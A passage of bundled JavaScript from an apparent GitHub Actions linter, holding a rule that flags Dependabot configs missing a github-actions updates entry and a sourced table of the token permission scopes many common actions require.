    summary: "`.github/dependabot.yml` has no `updates:` entry with `package-ecosystem: github-actions`, so pinned actions are never bumped.",
    why: "SHA pins (the defence against moved tags such as tj-actions/changed-files in 2025 and trivy-action in 2026) freeze the action at one commit: without an updater they silently miss security fixes, like the patched releases those incidents produced. The file is judged alone; a repository that updates actions with Renovate can ignore this rule.",
    fix: "Add an entry: `- package-ecosystem: github-actions`, `directory: /`, a `schedule:` and a `cooldown:` (the quick fix appends one)."
  },
  check({ file, report: report2 }) {
    const dependabot = file.dependabot;
    if (!dependabot) return;
    const updatesEntry = dependabot.get("updates");
    if (!updatesEntry) return;
    if (dependabot.updates.some((update) => update.string("package-ecosystem")?.value === "github-actions")) return;
    const fixes = [];
    const seq2 = asSeq(updatesEntry.value);
    const items = seqItems(seq2, file.doc);
    const seqSpan = nodeSpan(seq2);
    if (seq2 && seqSpan && items.length > 0 && seq2.flow !== true) {
      const firstItemSpan = nodeSpan(items[0]);
      if (firstItemSpan) {
        const itemIndent = columnIndent(file, firstItemSpan.start);
        const dash = itemIndent.length >= 2 ? itemIndent.slice(2) : "";
        fixes.push({
          title: "Add a github-actions updates entry",
          isPreferred: true,
          safety: "unsafe",
          edits: [
            insertLinesAfterNodeEnd(file, seqSpan.end, dash, [
              "- package-ecosystem: github-actions",
              "  directory: /",
              "  schedule:",
              "    interval: weekly",
              "  cooldown:",
              "    default-days: 7"
            ])
          ]
        });
      }
    }
    report2({
      span: updatesEntry.keySpan,
      message: "Dependabot updates no `github-actions` ecosystem: SHA-pinned actions in this repository will never be bumped",
      fixes
    });
  }
};

// server/src/knowledge/action-permissions.ts
var jobToken = (input2 = "token") => ({ input: input2, defaultsToJobToken: true });
var explicitToken = (input2 = "token") => ({ input: input2, defaultsToJobToken: false });
var none = (action, source, token) => ({
  action,
  scopes: [],
  source,
  ...token ? { token } : {}
});
var w = (scope, reason, when) => ({
  scope,
  level: "write",
  reason,
  ...when ? { when } : {}
});
var r = (scope, reason, when) => ({
  scope,
  level: "read",
  reason,
  ...when ? { when } : {}
});
var privateOnly = (scope, reason) => ({ scope, level: "read", reason, optional: true });
var oidc = (reason, when) => ({
  scope: "id-token",
  level: "write",
  reason,
  viaToken: false,
  ...when ? { when } : {}
});
var NO_SCOPES = [
  none("actions/upload-artifact", "actions/upload-artifact action.yml: no token input (uses the runtime token)"),
  none("actions/upload-artifact/merge", "actions/upload-artifact merge/action.yml: no token input"),
  none("actions/cache", "actions/cache action.yml: no token input (runtime cache service)"),
  none("actions/cache/restore", "actions/cache restore/action.yml: no token input"),
  none("actions/cache/save", "actions/cache save/action.yml: no token input"),
  none("actions/setup-python", "actions/setup-python action.yml: `token` only downloads python-versions", jobToken()),
  none("actions/setup-node", "actions/setup-node action.yml: `token` only downloads node-versions", jobToken()),
  none("actions/setup-go", "actions/setup-go action.yml: `token` only downloads go-versions", jobToken()),
  none("actions/setup-java", "actions/setup-java action.yml: `token` only downloads JDKs", jobToken()),
  none("actions/setup-dotnet", "actions/setup-dotnet action.yml: no token scope used"),
  none("actions/upload-pages-artifact", "actions/upload-pages-artifact action.yml: composite of upload-artifact"),
  none("actions/create-github-app-token", "actions/create-github-app-token README: authenticates as the app, not with the job token"),
  none("astral-sh/setup-uv", "astral-sh/setup-uv action.yml: `github-token` only downloads releases", jobToken("github-token")),
  none("swatinem/rust-cache", "Swatinem/rust-cache action.yml: no token input"),
  none("taiki-e/install-action", "taiki-e/install-action README: token only raises download rate limits"),
  none("dtolnay/rust-toolchain", "dtolnay/rust-toolchain action.yml: no token input"),
  none("dsherret/rust-toolchain-file", "dsherret/rust-toolchain-file action.yml: no token input"),
  none("moonrepo/setup-rust", "moonrepo/setup-rust action.yml: no GitHub token input"),
  none("docker/setup-buildx-action", "docker/setup-buildx-action action.yml: no GitHub token input"),
  none("docker/setup-qemu-action", "docker/setup-qemu-action action.yml: no token input"),
  none(
    "docker/metadata-action",
    "docker/metadata-action action.yml: `github-token` reads public repository metadata",
    jobToken("github-token")
  ),
  none("pnpm/action-setup", "pnpm/action-setup action.yml: no token input"),
  none("pnpm/setup", "pnpm/setup action.yml: no token input"),
  none(
    "pyo3/maturin-action",
    "PyO3/maturin-action README: builds in Docker; uploads use MATURIN_PYPI_TOKEN or trusted publishing (see its `command`)"
  ),
  none("denoland/setup-deno", "denoland/setup-deno action.yml: no token scope used"),
  none("rui314/setup-mold", "rui314/setup-mold action.yml: no token input"),
  none("azure/cli", "azure/CLI action.yml: no token input"),
  none("re-actors/alls-green", "re-actors/alls-green action.yml: reads `needs` only"),
  none("extractions/setup-just", "extractions/setup-just action.yml: `github-token` only downloads releases", jobToken("github-token")),
  none("google-github-actions/setup-gcloud", "google-github-actions/setup-gcloud action.yml: no token input"),
  none("msys2/setup-msys2", "msys2/setup-msys2 action.yml: no token input"),
  none("jetli/wasm-bindgen-action", "jetli/wasm-bindgen-action action.yml: no token input"),
  none("jetli/wasm-pack-action", "jetli/wasm-pack-action action.yml: no token input"),
  none("hendrikmuhs/ccache-action", "hendrikmuhs/ccache-action action.yml: no token input"),
  none("conda-incubator/setup-miniconda", "conda-incubator/setup-miniconda action.yml: no token input"),
  none("bencherdev/bencher", "bencherdev/bencher action.yml: installs the CLI"),
  none("embarkstudios/cargo-deny-action", "EmbarkStudios/cargo-deny-action action.yml: no token input"),
  none("vmactions/freebsd-vm", "vmactions/freebsd-vm action.yml: no token input"),
  none("slackapi/slack-github-action", "slackapi/slack-github-action README: Slack credentials only"),
  none("taiki-e/setup-cross-toolchain-action", "taiki-e/setup-cross-toolchain-action action.yml: no token input"),
  none("pypa/cibuildwheel", "pypa/cibuildwheel action.yml: no token input"),
  none(
    "mxschmitt/action-tmate",
    "mxschmitt/action-tmate action.yml: `github-token` only reads the actor's public SSH keys",
    jobToken("github-token")
  ),
  none("juliangruber/read-file-action", "juliangruber/read-file-action action.yml: no token input"),
  none("emscripten-core/setup-emsdk", "emscripten-core/setup-emsdk action.yml: no token input"),
  none("crate-ci/typos", "crate-ci/typos action.yml: no token input"),
  none("chainguard-dev/actions/kind-diag", "chainguard-dev/actions kind-diag/action.yml: no token input"),
  none("cargo-bins/cargo-binstall", "cargo-bins/cargo-binstall action.yml: token only downloads releases"),
  none("bacongobbler/azure-blob-storage-upload", "bacongobbler/azure-blob-storage-upload action.yml: Azure credentials only"),
  none("azure/artifact-signing-action", "Azure/artifact-signing-action README: Azure credentials only"),
  none("azure/trusted-signing-action", "Azure/trusted-signing-action README: Azure credentials only"),
  none("tsickert/discord-webhook", "tsickert/discord-webhook action.yml: webhook URL only"),
  none("tombi-toml/setup-tombi", "tombi-toml/setup-tombi action.yml: no token scope used"),
  none("sigstore/cosign-installer", "sigstore/cosign-installer action.yml: installs cosign"),
  none("sigstore/scaffolding/actions/setup", "sigstore/scaffolding actions/setup/action.yml: no token input"),
  none("samuelcolvin/check-python-version", "samuelcolvin/check-python-version action.yml: no token input"),
  none("ruby/setup-ruby", "ruby/setup-ruby action.yml: no token scope used"),
  none("pre-commit/action", "pre-commit/action action.yml: no token input"),
  none("pdm-project/setup-pdm", "pdm-project/setup-pdm action.yml: `token` only downloads", jobToken()),
  none("obi1kenobi/cargo-semver-checks-action", "obi1kenobi/cargo-semver-checks-action action.yml: no token scope used"),
  none("nick-fields/retry", "nick-fields/retry action.yml: no token input"),
  none("montudor/action-zip", "montudor/action-zip action.yml: no token input"),
  none("lukka/run-vcpkg", "lukka/run-vcpkg action.yml: no token scope used"),
  none("cloudflare/wrangler-action", "cloudflare/wrangler-action README: Cloudflare credentials only"),
  none(
    "bufbuild/buf-setup-action",
    "bufbuild/buf-setup-action action.yml: `github_token` (no default) only downloads buf",
    explicitToken("github_token")
  ),
  none("bufbuild/buf-lint-action", "bufbuild/buf-lint-action action.yml: no token scope used"),
  none(
    "bufbuild/buf-breaking-action",
    "bufbuild/buf-breaking-action action.yml: `buf_input_https_password` defaults to github.token, the password for the `against` repository",
    jobToken("buf_input_https_password")
  ),
  none("bats-core/bats-action", "bats-core/bats-action action.yml: no token input"),
  none("addnab/docker-run-action", "addnab/docker-run-action action.yml: no token input"),
  none("google/oss-fuzz/infra/cifuzz/actions/build_fuzzers", "google/oss-fuzz cifuzz docs: no token scope needed"),
  none(
    "google/oss-fuzz/infra/cifuzz/actions/run_fuzzers",
    "google/oss-fuzz cifuzz docs: no token scope needed; `github-token` (no default) is passed as GITHUB_TOKEN",
    explicitToken("github-token")
  ),
  none("electron/github-app-auth-action", "electron/github-app-auth-action README: authenticates as an app"),
  none("aws-actions/amazon-ecr-login", "aws-actions/amazon-ecr-login README: AWS credentials only"),
  none(
    "aquasecurity/trivy-action",
    "aquasecurity/trivy-action README: scans locally (upload SARIF in a separate step); `token-setup-trivy` (default github.token) only fetches the Trivy repository",
    jobToken("token-setup-trivy")
  ),
  none("aquasecurity/setup-trivy", "aquasecurity/setup-trivy action.yml: `token` only downloads trivy", jobToken()),
  none("haskell-actions/setup", "haskell-actions/setup action.yml: no token input"),
  none("erlef/setup-beam", "erlef/setup-beam action.yml: `github-token` only downloads", jobToken("github-token")),
  none("mlugg/setup-zig", "mlugg/setup-zig action.yml: no token input"),
  none("oven-sh/setup-bun", "oven-sh/setup-bun action.yml: no token input"),
  none("arduino/setup-protoc", "arduino/setup-protoc action.yml: `repo-token` (default '') only downloads", explicitToken("repo-token")),
  none(
    "coverallsapp/github-action",
    "coverallsapp/github-action README: the repo token is optional and only identifies the run",
    jobToken("github-token")
  ),
  none("trufflesecurity/trufflehog", "trufflesecurity/trufflehog action.yml: scans locally"),
  none("google-ml-infra/actions/setup-uv-python", "google-ml-infra/actions setup-uv-python/action.yml: installs tools"),
  none("dsanders11/project-actions/edit-item", "dsanders11/project-actions README: Projects need a PAT or app token", explicitToken()),
  none("dsanders11/project-actions/add-item", "dsanders11/project-actions README: Projects need a PAT or app token", explicitToken()),
  none("dsanders11/project-actions/find-project", "dsanders11/project-actions README: Projects need a PAT or app token", explicitToken()),
  none("actions/add-to-project", "actions/add-to-project README: needs a PAT or app token (Projects)", explicitToken("github-token")),
  none("mislav/bump-homebrew-formula-action", "mislav/bump-homebrew-formula-action README: pushes with COMMITTER_TOKEN, a PAT"),
  none("autofix-ci/action", "autofix-ci/action README: the autofix.ci app pushes, not the job token"),
  none(
    "christian-korneck/update-container-description-action",
    "christian-korneck/update-container-description-action README: registry credentials only"
  ),
  none("bus1/cabuild/action/msdevshell", "bus1/cabuild msdevshell/action.yml: no token input"),
  none("petarpetrovt/setup-sde", "petarpetrovt/setup-sde action.yml: no token input"),
  none("endbug/version-check", "EndBug/version-check README: `token` only reads public commits", jobToken()),
  none("prometheus/promci-setup", "prometheus/promci setup action.yml: installs tools"),
  none("garnet-org/action", "garnet-org/action action.yml: GarnetAI API token only"),
  none(
    "tj-actions/verify-changed-files",
    "tj-actions/verify-changed-files action.yml: `token` (default github.token) for a local git diff",
    jobToken()
  )
];
var WITH_SCOPES = [
  // --- GitHub-owned -------------------------------------------------------------------------------
  {
    action: "actions/checkout",
    token: jobToken(),
    scopes: [r("contents", "clone the repository")],
    source: 'actions/checkout README, "Recommended permissions": contents: read'
  },
  {
    action: "actions/download-artifact",
    token: explicitToken("github-token"),
    // With `github-token` it lists the run's artifacts through the REST API (run-id defaults to the current run).
    scopes: [r("actions", "download through the artifacts API")],
    source: "actions/download-artifact action.yml: `github-token` has no default; with it, `repository` and `run-id` (defaulting to the current run) go through the API"
  },
  {
    action: "actions/github-script",
    token: jobToken("github-token"),
    scopes: [],
    unknown: "its `script` can call any API",
    source: "actions/github-script README: the token's scopes depend on the script"
  },
  {
    action: "actions/labeler",
    token: jobToken("repo-token"),
    scopes: [r("contents", "read the labeler config"), w("pull-requests", "label pull requests")],
    source: 'actions/labeler README, "Permissions": contents: read, pull-requests: write'
  },
  {
    action: "actions/stale",
    token: jobToken("repo-token"),
    scopes: [
      w("issues", "close stale issues"),
      w("pull-requests", "close stale pull requests"),
      w("contents", "delete branches", [{ input: "delete-branch", is: "true" }])
    ],
    source: 'actions/stale README, "Recommended permissions": issues: write, pull-requests: write (contents: write for delete-branch)'
  },
  {
    action: "actions/first-interaction",
    token: jobToken("repo-token"),
    scopes: [w("issues", "greet on issues"), w("pull-requests", "greet on pull requests")],
    source: "actions/first-interaction README"
  },
  {
    action: "actions/attest-build-provenance",
    token: jobToken("github-token"),
    scopes: [oidc("sign the attestation"), w("attestations", "store the attestation")],
    source: 'actions/attest-build-provenance README, "Usage": id-token: write, attestations: write'
  },
  {
    action: "actions/attest",
    token: jobToken("github-token"),
    scopes: [oidc("sign the attestation"), w("attestations", "store the attestation")],
    source: "actions/attest README: id-token: write, attestations: write"
  },
  {
    action: "actions/attest-sbom",
    token: jobToken("github-token"),
    scopes: [oidc("sign the attestation"), w("attestations", "store the attestation")],
    source: "actions/attest-sbom README: id-token: write, attestations: write"
  },
  {
    action: "actions/deploy-pages",
    token: jobToken(),
    scopes: [w("pages", "deploy to Pages"), oidc("verify the deployment source")],
    source: 'actions/deploy-pages README, "Usage": pages: write, id-token: write'
  },
  {
    action: "actions/configure-pages",
    token: jobToken(),
    scopes: [r("pages", "read the Pages site")],
    source: "actions/configure-pages action.yml: reads the Pages site with `token`"
  },
  {
    action: "actions/publish-immutable-action",
    token: jobToken(),
    scopes: [r("contents", "read the release"), w("packages", "publish the action package"), oidc("sign the package")],
    source: "actions/publish-immutable-action README: contents: read, packages: write, id-token: write"
  },
  {
    action: "actions/publish-action",
    token: jobToken(),
    scopes: [w("contents", "update major version tags")],
    source: "actions/publish-action README: contents: write"
  },
  {
    action: "actions/dependency-review-action",
    token: jobToken("repo-token"),
    scopes: [
      r("contents", "read the dependency graph"),
      w("pull-requests", "comment the summary", [{ input: "comment-summary-in-pr", matches: /^(always|on-failure|true)$/ }])
    ],
    source: "actions/dependency-review-action README: contents: read, pull-requests: write for comment-summary-in-pr"
  },
  {
    action: "actions/delete-package-versions",
    token: jobToken(),
    scopes: [w("packages", "delete package versions")],
    source: "actions/delete-package-versions README"
  },
  {
    action: "actions/create-release",
    tokenEnv: ["GITHUB_TOKEN"],
    scopes: [w("contents", "create the release")],
    source: "actions/create-release README"
  },
  {
    action: "actions/upload-release-asset",
    tokenEnv: ["GITHUB_TOKEN"],
    scopes: [w("contents", "upload the release asset")],
    source: "actions/upload-release-asset README"
  },
  {
    action: "actions/ai-inference",
    token: jobToken(),
    scopes: [r("models", "call GitHub Models")],
    source: "actions/ai-inference README: models: read"
  },
  // Code scanning
  {
    action: "github/codeql-action/init",
    token: jobToken(),
    scopes: [],
    source: "github/codeql-action README: permissions are needed by analyze/upload"
  },
  { action: "github/codeql-action/autobuild", token: jobToken(), scopes: [], source: "github/codeql-action autobuild/action.yml" },
  {
    action: "github/codeql-action/analyze",
    token: jobToken(),
    scopes: [
      w("security-events", "upload CodeQL results", [{ input: "upload", notMatches: /^(false|never)$/ }]),
      privateOnly("actions", "read the run (private repositories)")
    ],
    source: 'github/codeql-action README, "Permissions": security-events: write'
  },
  {
    action: "github/codeql-action/upload-sarif",
    token: jobToken(),
    scopes: [w("security-events", "upload SARIF"), privateOnly("actions", "read the run (private repositories)")],
    source: "github/codeql-action upload-sarif/action.yml and code scanning docs: security-events: write"
  },
  {
    action: "zizmorcore/zizmor-action",
    token: jobToken(),
    // Its upload-sarif step is not passed `token`: the upload always uses the job token.
    scopes: [
      { ...w("security-events", "upload SARIF", [{ input: "advanced-security", is: "not-false" }]), viaToken: false },
      privateOnly("actions", "read the run (private repositories)")
    ],
    source: 'zizmorcore/zizmor-action action.yml: `token` defaults to github.token; advanced-security (default "true") runs github/codeql-action/upload-sarif without `token`'
  },
  {
    action: "ossf/scorecard-action",
    token: jobToken("repo_token"),
    scopes: [oidc("publish results", [{ input: "publish_results", is: "true" }])],
    source: "ossf/scorecard-action README: id-token: write with publish_results (security-events: write for the upload-sarif step)"
  },
  // OIDC publishing and cloud sign-in
  {
    action: "pypa/gh-action-pypi-publish",
    scopes: [oidc("trusted publishing", [{ input: "password", is: "unset" }])],
    source: 'pypa/gh-action-pypi-publish README, "Trusted publishing": id-token: write'
  },
  {
    action: "rust-lang/crates-io-auth-action",
    scopes: [oidc("trusted publishing")],
    source: "rust-lang/crates-io-auth-action README: id-token: write"
  },
  {
    action: "aws-actions/configure-aws-credentials",
    scopes: [
      oidc("assume the AWS role", [
        { input: "role-to-assume", is: "set" },
        { input: "aws-access-key-id", is: "unset" },
        { input: "web-identity-token-file", is: "unset" }
      ])
    ],
    source: 'aws-actions/configure-aws-credentials README, "OIDC": id-token: write'
  },
  {
    action: "google-github-actions/auth",
    scopes: [oidc("Workload Identity Federation", [{ input: "workload_identity_provider", is: "set" }])],
    source: "google-github-actions/auth README: id-token: write for Workload Identity Federation"
  },
  {
    action: "azure/login",
    scopes: [
      oidc("federated sign-in", [
        { input: "client-id", is: "set" },
        { input: "creds", is: "unset" }
      ])
    ],
    source: 'Azure/login README, "OIDC": id-token: write'
  },
  {
    action: "hashicorp/vault-action",
    scopes: [oidc("JWT sign-in", [{ input: "method", matches: /^jwt$/ }])],
    source: 'hashicorp/vault-action README, "JWT with GitHub OIDC Tokens": id-token: write'
  },
  {
    action: "codecov/codecov-action",
    scopes: [oidc("OIDC upload", [{ input: "use_oidc", is: "true" }])],
    source: "codecov/codecov-action README: id-token: write with use_oidc"
  },
  {
    action: "open-security-tools/ost-simple-sts",
    scopes: [oidc("exchange the OIDC token")],
    source: "open-security-tools/ost-simple-sts README: exchanges the job's OIDC token"
  },
  {
    action: "depot/build-push-action",
    token: jobToken("github-token"),
    scopes: [oidc("Depot OIDC sign-in", [{ input: "token", is: "unset" }])],
    source: "depot/build-push-action README: id-token: write without a Depot token (`github-token`, default github.token, reads a Git context)"
  },
  {
    action: "depot/setup-action",
    scopes: [oidc("Depot OIDC sign-in", [{ input: "oidc", is: "true" }])],
    source: "depot/setup-action action.yml and README: `oidc: true` authenticates with the Depot API using GitHub Actions OIDC"
  },
  {
    action: "electron/secret-service-action",
    scopes: [oidc("exchange the OIDC token for secrets")],
    source: 'electron/secret-service-action README, "Prerequisites": id-token: write'
  },
  {
    action: "step-security/harden-runner",
    token: jobToken(),
    scopes: [oidc("fetch the policy from the policy store", [{ input: "policy", is: "set" }])],
    source: 'step-security/harden-runner action.yml: `token` (default github.token) avoids rate limits; `policy` "Requires id-token: write permission"'
  },
  {
    action: "sigstore/gh-action-sigstore-python",
    scopes: [
      oidc("keyless signing", [{ input: "identity-token", is: "unset" }]),
      w("contents", "attach the signing artifacts to the release", [{ input: "release-signing-artifacts", is: "true" }])
    ],
    source: "sigstore/gh-action-sigstore-python README: id-token: write unless `identity-token` is given; contents: write for release-signing-artifacts"
  },
  {
    action: "hynek/build-and-inspect-python-package",
    scopes: [
      oidc("attest provenance", [{ input: "attest-build-provenance-github", is: "true" }]),
      w("attestations", "attest provenance", [{ input: "attest-build-provenance-github", is: "true" }])
    ],
    source: "hynek/build-and-inspect-python-package README: id-token + attestations: write for attest-build-provenance-github"
  },
  // Containers
  {
    action: "docker/login-action",
    token: explicitToken("password"),
    scopes: [w("packages", "push to ghcr.io", [{ input: "registry", matches: /^(https?:\/\/)?ghcr\.io/ }])],
    source: 'docker/login-action README, "GitHub Container Registry": packages: write with GITHUB_TOKEN'
  },
  {
    action: "docker/build-push-action",
    token: jobToken("github-token"),
    scopes: [],
    source: "docker/build-push-action README: pushes with the credentials of docker/login-action"
  },
  {
    action: "docker/bake-action",
    token: jobToken("github-token"),
    scopes: [],
    source: "docker/bake-action README: pushes with the credentials of docker/login-action"
  },
  {
    action: "uraimo/run-on-arch-action",
    token: explicitToken("githubToken"),
    // The cache push is best effort: astral-sh/uv and ruff pass `githubToken: ${{ github.token }}` without packages: write.
    scopes: [{ ...w("packages", "cache its container image in the package registry"), optional: true }],
    source: "uraimo/run-on-arch-action action.yml: `githubToken` defaults to ''; when given, the built image is cached in the project's package registry"
  },
  {
    action: "ko-build/setup-ko",
    scopes: [{ ...w("packages", "push images to ghcr.io with ko"), optional: true }],
    unknown: "it logs ko in to ghcr.io with the job token; later `ko build`/`ko publish` steps push images (packages: write)",
    source: "ko-build/setup-ko action.yml: composite, `ko login ghcr.io` with github.token unless KO_DOCKER_REPO is set"
  },
  // Releases and repository writes
  {
    action: "softprops/action-gh-release",
    token: jobToken(),
    scopes: [
      w("contents", "create the release"),
      w("discussions", "link a release discussion", [{ input: "discussion_category_name", is: "set" }])
    ],
    source: "softprops/action-gh-release action.yml (token defaults to github.token; discussion_category_name creates a discussion) and README: contents: write"
  },
  {
    action: "ncipollo/release-action",
    token: jobToken(),
    scopes: [w("contents", "create the release")],
    source: "ncipollo/release-action README: contents: write"
  },
  {
    action: "marvinpinto/action-automatic-releases",
    token: explicitToken("repo_token"),
    scopes: [w("contents", "create the release")],
    source: "marvinpinto/action-automatic-releases README"
  },
  {
    action: "svenstaro/upload-release-action",
    token: jobToken("repo_token"),
    scopes: [w("contents", "upload release assets")],
    source: "svenstaro/upload-release-action README: contents: write"
  },
  {
    action: "goreleaser/goreleaser-action",
    tokenEnv: ["GITHUB_TOKEN"],
    scopes: [w("contents", "publish the release")],
    source: "goreleaser/goreleaser-action README: contents: write (packages: write for ghcr.io images)"
  },
  {
    action: "googleapis/release-please-action",
    token: jobToken(),
    scopes: [w("contents", "create releases"), w("pull-requests", "open the release PR"), w("issues", "label the release PR")],
    source: "googleapis/release-please-action README: contents, pull-requests and issues: write"
  },
  {
    action: "release-drafter/release-drafter",
    tokenEnv: ["GITHUB_TOKEN"],
    scopes: [w("contents", "draft the release"), r("pull-requests", "read merged pull requests")],
    source: "release-drafter/release-drafter README: contents: write, pull-requests: read (write for the autolabeler)"
  },
  {
    action: "changesets/action",
    tokenEnv: ["GITHUB_TOKEN"],
    scopes: [w("contents", "push the version branch"), w("pull-requests", "open the version PR")],
    source: "changesets/action README: contents: write, pull-requests: write"
  },
  {
    action: "peter-evans/create-pull-request",
    token: jobToken(),
    scopes: [w("contents", "push the PR branch"), w("pull-requests", "open the pull request")],
    source: 'peter-evans/create-pull-request README, "Token": contents: write, pull-requests: write'
  },
  {
    action: "peter-evans/repository-dispatch",
    token: jobToken(),
    scopes: [w("contents", "send repository_dispatch")],
    source: "peter-evans/repository-dispatch README: contents: write for the current repository"
  },
  {
    action: "peter-evans/create-or-update-comment",
    token: jobToken(),
    scopes: [w("comment", "post the comment")],
    source: "peter-evans/create-or-update-comment README: issues: write or pull-requests: write"
  },
  {
    action: "peter-evans/find-comment",
    token: jobToken(),
    scopes: [r("pull-requests", "read comments")],
    source: "peter-evans/find-comment README: issues/pull-requests: read"
  },
  {
    action: "marocchino/sticky-pull-request-comment",
    token: jobToken("GITHUB_TOKEN"),
    scopes: [w("pull-requests", "post the sticky comment")],
    source: "marocchino/sticky-pull-request-comment README: pull-requests: write"
  },
  {
    action: "thollander/actions-comment-pull-request",
    token: jobToken("github-token"),
    scopes: [w("pull-requests", "comment on the PR")],
    source: "thollander/actions-comment-pull-request README: pull-requests: write"
  },
  {
    action: "mshick/add-pr-comment",
    token: jobToken("repo-token"),
    scopes: [w("pull-requests", "comment on the PR")],
    source: "mshick/add-pr-comment README: pull-requests: write"
  },
  {
    action: "py-cov-action/python-coverage-comment-action",
    token: explicitToken("GITHUB_TOKEN"),
    scopes: [w("pull-requests", "post the coverage comment"), w("contents", "push the coverage branch")],
    source: "py-cov-action/python-coverage-comment-action README: pull-requests: write, contents: write"
  },
  {
    action: "stefanzweifel/git-auto-commit-action",
    scopes: [w("contents", "push the commit")],
    source: "stefanzweifel/git-auto-commit-action README: contents: write (pushes with the checkout credentials)"
  },
  // `github_token` only reads the API; the push uses the checkout's persisted credentials.
  {
    action: "endbug/add-and-commit",
    scopes: [w("contents", "push the commit", [{ input: "push", notMatches: /^false$/ }])],
    source: 'EndBug/add-and-commit action.yml: `github_token` "is NOT used to make commits"; `push` defaults to true'
  },
  {
    action: "jamesives/github-pages-deploy-action",
    token: jobToken(),
    scopes: [w("contents", "push the Pages branch", [{ input: "ssh-key", is: "unset" }])],
    source: "JamesIves/github-pages-deploy-action action.yml: `token` defaults to github.token; `ssh-key` pushes with a deploy key instead"
  },
  {
    action: "peaceiris/actions-gh-pages",
    token: explicitToken("github_token"),
    scopes: [w("contents", "push the Pages branch")],
    source: "peaceiris/actions-gh-pages README: contents: write with github_token"
  },
  {
    action: "dessant/lock-threads",
    token: jobToken("github-token"),
    // `process-only` empty (the default) processes issues, pull requests and discussions.
    scopes: [
      w("issues", "lock issues", [{ input: "process-only", notMatches: /^(?![\s\S]*issues)[\s\S]+$/ }]),
      w("pull-requests", "lock pull requests", [{ input: "process-only", notMatches: /^(?![\s\S]*prs)[\s\S]+$/ }]),
      w("discussions", "lock discussions", [{ input: "process-only", notMatches: /^(?![\s\S]*discussions)[\s\S]+$/ }])
    ],
    source: "dessant/lock-threads action.yml: `github-token` defaults to github.token; `process-only` defaults to '' (issues, prs and discussions)"
  },
  {
    action: "amannn/action-semantic-pull-request",
    tokenEnv: ["GITHUB_TOKEN"],
    scopes: [r("pull-requests", "read the PR title"), w("statuses", "report the WIP status", [{ input: "wip", is: "true" }])],
    source: "amannn/action-semantic-pull-request action.yml (no token input: env GITHUB_TOKEN; `wip` reports a second check) and README: pull-requests: read"
  },
  {
    action: "dorny/paths-filter",
    token: jobToken(),
    scopes: [r("pull-requests", "list changed files")],
    source: "dorny/paths-filter README: pull-requests: read on pull_request events"
  },
  {
    action: "tj-actions/changed-files",
    token: jobToken(),
    scopes: [r("pull-requests", "list changed files")],
    source: "tj-actions/changed-files README: pull-requests: read"
  },
  {
    action: "golangci/golangci-lint-action",
    token: jobToken("github-token"),
    scopes: [r("pull-requests", "only-new-issues", [{ input: "only-new-issues", is: "true" }])],
    source: "golangci/golangci-lint-action README: contents: read, pull-requests: read for only-new-issues"
  },
  {
    action: "dawidd6/action-download-artifact",
    token: jobToken("github_token"),
    scopes: [r("actions", "download another run's artifact"), r("pull-requests", "look up the pull request", [{ input: "pr", is: "set" }])],
    source: "dawidd6/action-download-artifact action.yml: `github_token` defaults to github.token; `pr` looks up a pull request"
  },
  {
    action: "hmarr/auto-approve-action",
    token: jobToken("github-token"),
    scopes: [w("pull-requests", "approve the pull request")],
    source: "hmarr/auto-approve-action README: pull-requests: write"
  },
  {
    action: "pascalgn/automerge-action",
    tokenEnv: ["GITHUB_TOKEN"],
    scopes: [w("contents", "merge"), w("pull-requests", "update pull requests")],
    source: "pascalgn/automerge-action README"
  },
  {
    action: "dependabot/fetch-metadata",
    token: jobToken("github-token"),
    scopes: [r("pull-requests", "read the Dependabot PR")],
    source: "dependabot/fetch-metadata README: pull-requests: read"
  },
  {
    action: "actions-ecosystem/action-add-labels",
    token: explicitToken("github_token"),
    scopes: [w("comment", "add labels")],
    source: "actions-ecosystem/action-add-labels action.yml: `github_token` required, no default; labels an issue or a pull request (issues API)"
  },
  {
    action: "github/issue-labeler",
    token: jobToken("repo-token"),
    scopes: [w("issues", "label issues")],
    source: "github/issue-labeler README: issues: write"
  },
  {
    action: "enricomi/publish-unit-test-result-action",
    token: jobToken("github_token"),
    scopes: [
      w("checks", "create the check run"),
      w("pull-requests", "comment the results", [{ input: "comment_mode", notMatches: /^off$/ }])
    ],
    source: 'EnricoMi/publish-unit-test-result-action README, "Permissions": checks: write, pull-requests: write'
  },
  {
    action: "dorny/test-reporter",
    token: jobToken(),
    scopes: [w("checks", "create the check run")],
    source: "dorny/test-reporter README: checks: write"
  },
  {
    action: "mikepenz/action-junit-report",
    token: jobToken(),
    scopes: [w("checks", "create the check run", [{ input: "annotate_only", notMatches: /^true$/ }])],
    source: "mikepenz/action-junit-report action.yml: `token` defaults to github.token; `annotate_only: true` creates no check run"
  },
  {
    action: "super-linter/super-linter",
    tokenEnv: ["GITHUB_TOKEN"],
    scopes: [w("statuses", "report per-linter statuses")],
    source: "super-linter/super-linter README: statuses: write"
  },
  {
    action: "crazy-max/ghaction-github-pages",
    tokenEnv: ["GITHUB_TOKEN"],
    scopes: [w("contents", "push the Pages branch")],
    source: "crazy-max/ghaction-github-pages README: contents: write"
  },
  {
    action: "codspeedhq/action",
    scopes: [{ ...oidc("CodSpeed OIDC sign-in", [{ input: "token", is: "unset" }]), optional: true }],
    source: "CodSpeedHQ/action README: tokenless uploads on public repositories; OIDC (id-token: write) when the project is set up for it"
  },
  // Composites and tools whose scopes depend on inputs.
  {
    action: "golang/govulncheck-action",
    scopes: [r("contents", "check out the repository (actions/checkout)", [{ input: "repo-checkout", notMatches: /^false$/ }])],
    source: "golang/govulncheck-action action.yml: composite, runs actions/checkout with the job token unless `repo-checkout: false`"
  },
  {
    action: "gradle/actions/setup-gradle",
    token: jobToken("github-token"),
    scopes: [
      w("contents", "submit the dependency graph", [{ input: "dependency-graph", matches: /^(generate-and-submit|download-and-submit)$/ }]),
      w("pull-requests", "add the job summary as a PR comment", [
        { input: "add-job-summary-as-pr-comment", matches: /^(always|on-failure)$/ }
      ])
    ],
    source: "gradle/actions docs/setup-gradle.md: contents: write to submit the dependency graph (off by default), pull-requests: write for add-job-summary-as-pr-comment (default never)"
  },
  // Unknowns: the needs depend on what the action is told to do.
  {
    action: "octokit/request-action",
    token: explicitToken("github_token"),
    tokenEnv: ["GITHUB_TOKEN"],
    scopes: [],
    unknown: "it calls whatever endpoint `route` names",
    source: "octokit/request-action action.yml: `route`; the token comes from env GITHUB_TOKEN (or `github_token`)"
  },
  {
    action: "reviewdog/action-setup",
    scopes: [],
    source: "reviewdog/action-setup action.yml: installs reviewdog (what reviewdog posts depends on its reporter)"
  },
  {
    action: "openai/codex-action",
    scopes: [],
    unknown: "the agent runs commands chosen at run time",
    source: "openai/codex-action README"
  },
  {
    action: "anthropics/claude-code-action",
